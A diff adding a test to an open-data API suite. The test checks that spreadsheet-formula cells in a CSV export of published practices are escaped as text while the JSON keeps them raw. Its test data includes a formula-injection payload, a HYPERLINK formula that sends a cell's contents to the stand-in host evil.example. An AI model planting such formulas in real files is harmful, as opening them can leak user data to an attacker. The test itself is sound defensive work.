@@ -205,6 +205,27 @@ describe('open data: the published practices, public', () => {
     expect(records).toHaveLength(json.items.length);
   });
 
+  it('keeps cells a spreadsheet would run as formulas as text in the CSV, not in the JSON', async () => {
+    const hostile = await propose({
+      title: `=HYPERLINK("http://evil.example/?x="&A1,"Apri") ${tag}`,
+      summary: '+SOMMA(1;2)',
+      territory: '@Comune',
+      reuseConditions: { licence: '-1+1', handedOver: 'Dataset', effort: 'Un mese' },
+    });
+    await move(hostile.id, 'publish');
+    const res = await t.http().get('/api/v1/open-data/practices.csv').expect(200);
+    const records = parse(res.text, { columns: true }) as Record<string, string>[];
+    const line = records.find((r) => r.id === hostile.id)!;
+    expect(line.titolo).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Apri") ${tag}`);
+    expect([line.sintesi, line.territorio, line.licenza]).toEqual(["'+SOMMA(1;2)", "'@Comune", "'-1+1"]);
+    // A harmless cell is untouched.
+    expect(line.temi).toBe('patrimonio-informativo-pubblico');
+    const json = (await t.http().get('/api/v1/open-data/practices.json').expect(200)).body as {
+      items: { id: string; titolo: string }[];
+    };
+    expect(json.items.find((i) => i.id === hostile.id)!.titolo).toBe(hostile.title);
+  });
+
   it('describes the dataset in DCAT-AP_IT (JSON-LD)', async () => {
     const res = await t.http().get('/api/v1/open-data/catalog.jsonld').expect(200);
     expect(res.headers['content-type']).toContain('application/ld+json');
